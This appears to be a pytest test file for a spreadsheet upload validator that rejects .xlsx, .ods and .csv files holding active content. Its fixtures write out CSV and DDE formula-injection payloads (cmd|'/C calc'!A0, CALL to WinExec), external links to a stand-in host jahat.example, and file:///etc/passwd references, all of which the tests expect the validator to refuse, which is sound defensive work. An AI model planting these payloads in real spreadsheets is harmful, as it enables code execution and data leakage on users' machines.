"""What may be in a workbook, as .xlsx, .ods and .csv."""

import pytest

from kotacerdas.casework.judging import judged
from kotacerdas.core.errors import RefusedError
from kotacerdas.core.words import sentence
from reporting import files

RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def typed(part: str, kind: str, content: bytes = b"<x/>") -> bytes:
    """A workbook with one more part of that kind."""
    override = f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    made = files.replaced(files.workbook(), TYPES, b"</Types>", override.encode())
    return files.with_parts(made, **{part: content})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    more = f'<Relationship Id="x" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
    end = b"</Relationships>"
    return files.replaced(files.workbook(), RELATIONS, end, more.encode() + end)


def computed(formula: str) -> bytes:
    return files.replaced(files.workbook(), SHEET, b"SUM(B2:B3)", formula.encode())


def ods(body: str, **more: bytes) -> bytes:
    names = {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
    }
    said = " ".join(f'xmlns:{short}="{name}"' for short, name in names.items())
    content = f"<office:document-content {said}>{body}</office:document-content>"
    return files.ods(content_dot_xml=content.encode(), **more)


EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XLSX = {
    "other workbook": typed("xl/externalLinks/externalLink1.xml", f"{EXCEL}.externalLink+xml"),
    "connections": typed("xl/connections.xml", f"{EXCEL}.connections+xml"),
    "query": typed("xl/queryTables/queryTable1.xml", f"{EXCEL}.queryTable+xml"),
    "ole": typed("xl/embeddings/a.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
    "package": typed("xl/embeddings/a.docx", "application/octet-stream"),
    "activex": typed("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    "web extension": typed(
        "xl/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml"
    ),
    "ribbon": typed("customUI/customUI.xml", "application/xml"),
    "no kind": files.with_parts(files.workbook(), xl__a_dot_scr=b"MZ"),
    "outside picture": related(f"{OFFICE}/image", "https://jahat.example/a.png"),
    "outside template": related(f"{OFFICE}/attachedTemplate", "https://jahat.example/a.dotm"),
    "outside ole": related(f"{OFFICE}/oleObject", "mhtml:https://jahat.example/a!x"),
    "mhtml": related(f"{OFFICE}/hyperlink", "mhtml:https://jahat.example/a"),
    "script": related(f"{OFFICE}/hyperlink", "javascript:alert(1)"),
    "file": related(f"{OFFICE}/hyperlink", "file:///C:/Windows/calc.exe"),
    "drive": related(f"{OFFICE}/hyperlink", r"C:\Windows\calc.exe"),
    "share": related(f"{OFFICE}/hyperlink", r"\\10.0.0.1\umum"),
    "inside that is outside": related(f"{OFFICE}/image", "file:///etc/passwd", "Internal"),
    "unknown relation": related(f"{OFFICE}/control", "a.xml", "Internal"),
    "dde": computed("cmd|'/C calc'!A0"),
    "dde in a sum": computed("1+cmd|'/C calc'!A0"),
    "service": computed('_xlfn.WEBSERVICE("https://jahat.example")'),
    "call": computed('CALL("kernel32","WinExec","JCJ","calc",0)'),
    "link to a file": computed('HYPERLINK("file:///C:/calc.exe","buka")'),
    "other workbook's cell": computed("'C:\\[rahasia.xlsx]Sheet1'!A1"),
    "doctype": files.replaced(
        files.workbook(), SHEET, b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet'
    ),
}
ODS = {
    "macros": ods("<office:scripts><script:module/></office:scripts>"),
    "event": ods(
        '<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners>'
    ),
    "dde": ods("<table:dde-links/>"),
    "dde formula": ods('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;)"/>'),
    "service": ods('<table:table-cell table:formula="of:=WEBSERVICE(A1)"/>'),
    "other file": ods('<table:table-source xlink:href="file:///C:/rahasia.ods"/>'),
    "neighbour": ods('<table:table-source xlink:href="../rahasia.ods"/>'),
    "outside picture": ods('<draw:image xlink:href="https://jahat.example/a.png"/>'),
    "ole": ods('<draw:object-ole xlink:href="./Object 1"/>'),
    "plugin": ods('<draw:plugin xlink:href="a"/>'),
    "frame": ods('<draw:floating-frame xlink:href="a"/>'),
    "button": ods("<office:forms><form:button/></office:forms>"),
    "script address": ods('<text:a xlink:href="javascript:alert(1)"/>'),
    "macro address": ods('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>'),
    "part": ods("", Configurations2__toolbar__a_dot_xml=b"<x/>"),
    "database": ods("", database__script=b"x"),
}
GOOD = {
    "rekap.xlsx": files.workbook(),
    "tautan.xlsx": related(f"{OFFICE}/hyperlink", "https://batangkab.go.id/a"),
    "isian.xlsx": related(f"{OFFICE}/ctrlProp", "../ctrlProps/ctrlProp1.xml", "Internal"),
    "rumus.xlsx": computed('IF(A1="x|y!z","image(1)",SUM(B2:B3))'),
    "biasa.ods": ods(
        '<office:scripts/><text:a xlink:href="https://batangkab.go.id"/>'
        '<text:a xlink:href="#Sheet1.A1"/><draw:image xlink:href="Pictures/a.png"/>'
        '<draw:object xlink:href="./Object 1"/>'
        '<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>',
        **{"Object 1__content_dot_xml": b"<x/>", "Configurations2__accelerator__": b""},
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_workbooks_are_taken(name: str):
    assert judged(name, GOOD[name]).kind == name[-4:].strip(".")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        *(("rekap.xlsx", one) for one in XLSX.values()),
        *(("rekap.ods", one) for one in ODS.values()),
    ],
    ids=[*XLSX, *ODS],
)
def test_what_is_not_allowed_is_refused_by_its_name(name: str, data: bytes):
    with pytest.raises(RefusedError) as refused:
        judged(name, data)

    assert refused.value.key in {"evidence.active_sheets", "evidence.macros"}
    assert name in sentence(refused.value)


def test_a_part_that_is_there_twice_is_refused():
    twice = files.with_parts(files.workbook(), XL__workbook_dot_xml=b"<x/>")
    with pytest.raises(RefusedError) as refused:
        judged("rekap.xlsx", twice)

    assert refused.value.key == "evidence.broken"


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '"=HYPERLINK(A1)"',
        " =1",
        '" =1"',
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
        "-2+cmd|' /C calc'!A0",
        '"-HYPERLINK (A1)"',
        "\u200b=1",
        "\uff1d1",
    ],
)
def test_a_formula_is_seen_under_every_delimiter(cell: str, delimiter: str):
    rows = [["nama", "nilai", "ket"], ["satu", cell, "x"], ["dua", "3", "y"]]
    text = "\n".join(delimiter.join(row) for row in rows) + "\n"
    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
        with pytest.raises(RefusedError) as refused:
            judged("rekap.csv", text.encode(encoding))

        # What has the delimiter inside is no table by it.
        other = {"evidence.lies", "evidence.lies_unknown"} if delimiter in cell else set()
        assert refused.value.key in {"evidence.formula"} | other
        assert "rekap.csv" in sentence(refused.value)


def test_a_formula_that_another_delimiter_makes_is_seen():
    for row in ("a;=1,b", '"a|=1",b', '"a\t=1",b', '"a, =1",b', '"-\n+CALL(1)",b'):
        with pytest.raises(RefusedError) as refused:
            judged("rekap.csv", f"nama,nilai\n{row}\n".encode())

        assert refused.value.key == "evidence.formula"


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "+62 285 391571",
        "-5.3 %",
        "-",
        "- Puskesmas Batang",
        "2021-2022",
        "a=b",
        "budi@batangkab.go.id",
        "https://a.go.id/?a=1",
        "-1.234.567",
        "+3",
    ],
)
def test_numbers_telephones_and_text_are_no_formulas(cell: str):
    for delimiter in ",;\t|":
        rows = [["nama", "nilai"], ["Dinas (pusat)", cell], ["dua", "-3"]]
        text = "\n".join(delimiter.join(row) for row in rows)
        assert judged("rekap.csv", text.encode()).kind == "csv"
